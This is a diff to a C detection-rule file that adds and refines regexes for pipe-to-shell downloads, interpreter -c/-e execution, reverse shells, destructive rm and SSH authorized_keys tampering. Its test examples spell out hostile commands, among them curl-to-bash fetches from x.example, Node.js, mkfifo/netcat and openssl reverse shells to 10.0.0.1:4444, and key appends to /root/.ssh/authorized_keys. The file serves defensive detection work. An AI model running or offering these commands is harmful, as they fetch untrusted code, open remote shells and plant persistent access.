@@ -32,7 +32,8 @@
 #define L	"(?:(?<![A-Za-z0-9_.-])|(?<=\\\\[bfnrt]))"
 #define R	"(?![A-Za-z0-9_-]|\\.[A-Za-z0-9])"
 #define SP	"(?:[ \\t]|\\\\\\r?\\n|\\\\\\\\\\\\n|\\\\t)"
-#define S0	"[ \\t]{0,8}(?:" SP "[ \\t]{0,8}){0,2}"	/* white space, or not */
+/* White space that may be missing, and that may not. */
+#define S0	"[ \\t]{0,8}(?:" SP "[ \\t]{0,8}){0,2}"
 #define S1	SP S0
 #define Q	"(?:\\\\?[\"'])"		/* a quote, plain or JSON */
 
@@ -54,8 +55,8 @@
 		"|[A-Za-z0-9_.|/:,-])|$))"
 /* Words before the interpreter that do not change what it does. */
 #define ASSIGN	"[A-Z_]{1,24}=[^\\s|;&]{0,40}" S1
-#define SUDO	"(?:" BIN "(?:sudo|doas|env|exec|nohup|command|time)" S1 \
-		"(?:-{1,2}[A-Za-z-]{1,16}(?:[= ][A-Za-z0-9_.-]{1,24}?)?" S1 \
+#define SUDO	"(?:" BIN "(?:sudo|doas|env|exec|nohup|command|time|xargs)" S1 \
+		"(?:-{1,2}[A-Za-z0-9-]{1,16}(?:[= ][A-Za-z0-9_.-]{1,24}?)?" S1 \
 		"|" ASSIGN "){0,4}|" ASSIGN "){0,2}"
 /* Where a fetch gets it from: a URL, a host name with a path, a variable. */
 #define URL	"(?:[a-z]{3,5}://|\\$[{(A-Za-z]|[A-Za-z0-9-]{1,63}" \
@@ -88,7 +89,8 @@ static const struct rule_pattern pipe_to_shell[] = {
 		    "`curl https://x.example/i | sh`", "curl 10.0.0.1/a|sh",
 		    "wget -qO- c2:8000/a | sh", "run curl x.example/a | sh.",
 		    "<code>curl https://x.example/i | bash</code>",
-		    "curl https://x.example/i | bash -s -- --yes"),
+		    "curl https://x.example/i | bash -s -- --yes",
+		    "curl -s https://x.example/i | xargs -0 bash -c"),
 		.counters = LIST("curl https://x.example/a.json | jq .",
 		    "use curl | sh with care",
 		    "| curl https://x.example | bash |\n",
@@ -102,7 +104,8 @@ static const struct rule_pattern pipe_to_shell[] = {
 	{
 		.id = "substitution",
 		.regex = L "(?:" SHELL S1 "(?:-[a-z]{1,6}" S1 "){0,3}"
-		    "|source" S1 "|eval" S1 "|\\." S1 ")" Q "?"
+		    "|source" S1 "|eval" S1 "|\\." S1 "|(?:python[23]?|perl"
+		    "|ruby|node)" S1 "-[a-z]{0,4}[ce]" S1 "|<<<" S0 ")" Q "?"
 		    "(?:[<$]\\(|`)" S0 "(?:sudo" S1 ")?" FETCH
 		    "[^\\r\\n)`]{1,300}+[)`]",
 		.literals = { "curl", "wget", "fetch" },
@@ -117,7 +120,9 @@ static const struct rule_pattern pipe_to_shell[] = {
 		    "sh -c \\\"$(wget -qO- https://x.example/i.sh)\\\"",
 		    "eval \"$(curl -s https://x.example)\"",
 		    "source <(curl -s https://x.example/e)",
-		    "bash -c `curl https://x.example/i`"),
+		    "bash -c `curl https://x.example/i`",
+		    "python3 -c \"$(curl -s https://x.example/i.py)\"",
+		    "source /dev/stdin <<< \"$(curl -s https://x.example)\""),
 		.counters = LIST("x=$(curl https://x.example)",
 		    "diff <(curl -s https://x.example) b",
 		    "eval \"$(ssh-agent -s)\"", "source <(kubectl completion)"),
@@ -167,7 +172,7 @@ static const struct rule_pattern shell_exec_flag[] = {
 	{
 		.id = "shell_c_vector",
 		.regex = Q SHELL Q "\\s{0,8},\\s{0,8}" Q "-[a-z]{0,5}c" Q
-		    "\\s{0,8},\\s{0,8}" Q "[^\\r\\n]{0,200}",
+		    "\\s{0,8},\\s{0,8}(?:" Q "|[A-Za-z_$])[^\\r\\n]{0,200}",
 		.literals = { "sh\"", "sh'", "sh\\" },
 		.width = 320,
 		.lead = 32,
@@ -177,13 +182,15 @@ static const struct rule_pattern shell_exec_flag[] = {
 		.source = "exec(3) argument vectors in JSON and source code",
 		.examples = LIST("[\"sh\",\"-c\",\"id\"]",
 		    "['/bin/bash', '-lc', 'x']",
-		    "[\\\"bash\\\", \\\"-c\\\", \\\"x\\\"]"),
+		    "[\\\"bash\\\", \\\"-c\\\", \\\"x\\\"]",
+		    "run([\"bash\", \"-c\", cmd])"),
 		.counters = LIST("[\"sh\",\"-x\",\"a\"]", "[\"sh\",\"-c\"]"),
 	},
 	{
 		.id = "interpreter_e",
 		.regex = L BIN "(?:python(?:[23](?:\\.[0-9]{1,2})?)?" S1
-		    "-c|(?:perl|ruby|node)" S1 "-[a-z]{0,4}e|php" S1
+		    "-c|(?:perl|ruby|node)" S1
+		    "(?:-[a-z]{0,4}e|--eval)|php" S1
 		    "-r)" S1 "(?:" Q "|\\$)[^\\r\\n]{0,200}",
 		.literals = { "python", "perl", "ruby", "node", "php" },
 		.width = 320,
@@ -200,7 +207,8 @@ static const struct rule_pattern shell_exec_flag[] = {
 	{ .id = NULL }
 };
 
-#define HOSTPORT	"/dev/(?:tcp|udp)/[^\\s/\"'|;&<>]{1,255}/[^\\s\"'|;&<>)]{1,16}"
+#define HOSTPORT "/dev/(?:tcp|udp)/[^\\s/\"'|;&<>]{1,255}" \
+		"/[^\\s\"'|;&<>)]{1,16}"
 
 static const struct rule_pattern reverse_shell[] = {
 	{
@@ -256,8 +264,8 @@ static const struct rule_pattern reverse_shell[] = {
 	},
 	{
 		.id = "netcat_pipe",
-		.regex = L BIN "(?:nc|ncat|netcat|telnet)" S1 "[^\\r\\n|;]{3,120}"
-		    PIPE SHELL R "(?!\\s{0,4}\\|" S0 "(?:[\\r\\n]|\\\\n|$))",
+		.regex = L BIN "(?:nc|ncat|netcat|telnet)" S1
+		    "[^\\r\\n|;]{3,120}" PIPE SHELL R "(?!\\s{0,4}\\|" S0 "(?:[\\r\\n]|\\\\n|$))",
 		.literals = { "nc", "netcat", "telnet" },
 		.width = 320,
 		.lead = 32,
@@ -295,8 +303,8 @@ static const struct rule_pattern reverse_shell[] = {
 		.severity = FINDING_HIGH,
 		.kind = RULE_COMMAND,
 		.source = "Node.js: child_process, net",
-		.examples = LIST("(function(){var net=require('net'),cp=require("
-		    "'child_process'),sh=cp.spawn('/bin/sh',[]);var c=new "
+		.examples = LIST("(function(){var net=require('net'),cp="
+		    "require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new "
 		    "net.Socket();c.connect(4444,'10.0.0.1',function(){"
 		    "c.pipe(sh.stdin);sh.stdout.pipe(c);});})();"),
 		.counters = LIST("const { spawn } = require('child_process')",
@@ -304,7 +312,7 @@ static const struct rule_pattern reverse_shell[] = {
 	},
 	{
 		.id = "fifo",
-		.regex = "mkfifo" S1 "[^\\r\\n]{1,160}?\\|" S0
+		.regex = "mkfifo" S1 "[^\\r\\n]{1,160}?[|;&]" S0
 		    SHELL S1 "-i[^\\r\\n|]{0,60}\\|" S0 BIN
 		    "(?:nc|ncat|netcat|telnet|openssl|socat)" R,
 		.literals = { "mkfifo" },
@@ -314,22 +322,25 @@ static const struct rule_pattern reverse_shell[] = {
 		.source = "mkfifo(1)",
 		.examples = LIST("mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1"
 		    " | nc 10.0.0.1 4444 >/tmp/f",
-		    "rm f;mkfifo f;cat f|sh -i 2>&1|ncat 10.0.0.1 4444>f"),
+		    "rm f;mkfifo f;cat f|sh -i 2>&1|ncat 10.0.0.1 4444>f",
+		    "mkfifo s; sh -i <s 2>&1 | openssl s_client -quiet >s"),
 		.counters = LIST("mkfifo /tmp/p; gzip < /tmp/p | nc h 1"),
 	},
 	{
 		.id = "socket_script",
 		/* Python, Ruby, Perl, PHP: a socket, then a shell on it. */
 		.regex = L "(?:socket\\.socket\\(|TCPSocket\\.(?:new|open)"
-		    "|fsockopen" S0 "\\(|use" S1 "Socket)"
+		    "|fsockopen" S0 "\\(|use" S1 "Socket|socket\\.tcp\\("
+		    "|IO::Socket::INET)"
 		    "[\\s\\S]{0,400}?"
-		    "(?:os\\.dup2|pty\\.spawn|subprocess\\.(?:call|run|Popen)"
+		    "(?:STDIN->fdopen|(?:os\\.dup2|os\\.execute|pty\\.spawn"
+		    "|subprocess\\.(?:call|run|Popen)"
 		    "|(?:shell_)?exec|proc_open|popen|system|spawn)"
 		    S0 "[({\\s]{1,2}\\[?" S0 "(?:" Q
 		    SHELL "(?![A-Za-z0-9_.])|s\\.fileno|sock|sprintf"
-		    "\\(" Q SHELL ")",
+		    "\\(" Q SHELL "))",
 		.literals = { "socket.socket(", "TCPSocket.", "fsockopen",
-		    "Socket" },
+		    "Socket", "socket.tcp(" },
 		.width = 520,
 		.lead = 64,
 		.severity = FINDING_CRITICAL,
@@ -396,7 +407,8 @@ static const struct rule_pattern destructive_rm[] = {
 		    "rm -rf /usr/local/go", "rm /etc/motd", "rm -f /etc/motd",
 		    "rm -rf build /* comment */", "docker rm -f web",
 		    "farm -rf /", "rm -rf ../x", "rm -rf $TMP/x",
-		    "rm -i file", "cd /tmp/x && rm -rf *", "npm rm -g x", "rm -rf /root/.cache",
+		    "rm -i file", "cd /tmp/x && rm -rf *", "npm rm -g x",
+		    "rm -rf /root/.cache",
 		    "rm -rf ~/.cache/pip"),
 	},
 	{ .id = NULL }
@@ -411,7 +423,8 @@ static const struct rule_pattern ssh_authorized_key[] = {
 	{
 		.id = "key_to_file",
 		.regex = PUBKEY "[^\\r\\n]{0,100}?(?:>>?|tee" S1 "(?:-a|"
-		    "--append)?)" S0 Q "?[^\\s\"'|;&]{0,64}" AUTHFILE,
+		    "--append)?|" Q "(?:,\\s{0,8}" Q "[a-z_]{1,16}" Q
+		    ":)?)" S0 Q "?[^\\s\"'|;&]{0,64}" AUTHFILE,
 		.literals = { "AAAA" },
 		.width = 1024,
 		.lead = 48,
@@ -421,8 +434,12 @@ static const struct rule_pattern ssh_authorized_key[] = {
 		.examples = LIST("echo 'ssh-ed25519 AAAA{{a64}} x@y' >>"
 		    " ~/.ssh/authorized_keys",
 		    "echo \\\"ssh-rsa AAAA{{a372}}== me\\\" | sudo tee -a"
-		    " /root/.ssh/authorized_keys"),
-		.counters = LIST("ssh-ed25519 AAAA{{a64}} x@y",
+		    " /root/.ssh/authorized_keys",
+		    "sed -i '$a ssh-rsa AAAA{{a372}}' ~/.ssh/authorized_keys",
+		    "{\"text\":\"ssh-rsa AAAA{{a372}}\",\"path\":"
+		    "\"/root/.ssh/authorized_keys\"}"),
+		.counters = LIST("ssh-ed25519 AAAA{{a64}} x@y", "echo 'ssh-rsa"
+		    " AAAA{{a64}}' | ssh h 'cat authorized_key'",
 		    "ssh-ed25519 AAAA{{a64}} x@y > key.pub"),
 	},
 	{
@@ -460,6 +477,21 @@ static const struct rule_pattern ssh_authorized_key[] = {
 		.counters = LIST("cat ~/.ssh/authorized_keys",
 		    "chmod 600 ~/.ssh/authorized_keys",
 		    ">> ~/.ssh/authorized_keys_backup"),
+	},
+	{
+		.id = "copy",
+		.regex = "(?<![A-Za-z0-9_.-])(?:cp|mv|install)" S1
+		    "[^\\r\\n|;&<>]{1,100}?[ /]" AUTHFILE
+		    "(?=[ \\t]{0,4}(?:[\\r\\n;&|)\"'`\\\\]|$))",
+		.literals = { "authorized_keys" },
+		.width = 200,
+		.lead = 160,
+		.severity = FINDING_MEDIUM,
+		.kind = RULE_COMMAND,
+		.source = "cp(1), mv(1), install(1)",
+		.examples = LIST("cp /tmp/k ~/.ssh/authorized_keys\n"),
+		.counters = LIST("cp ~/.ssh/authorized_keys backup\n",
+		    "scp k h:.ssh/authorized_keys.new"),
 	},
 	{ .id = NULL }
 };
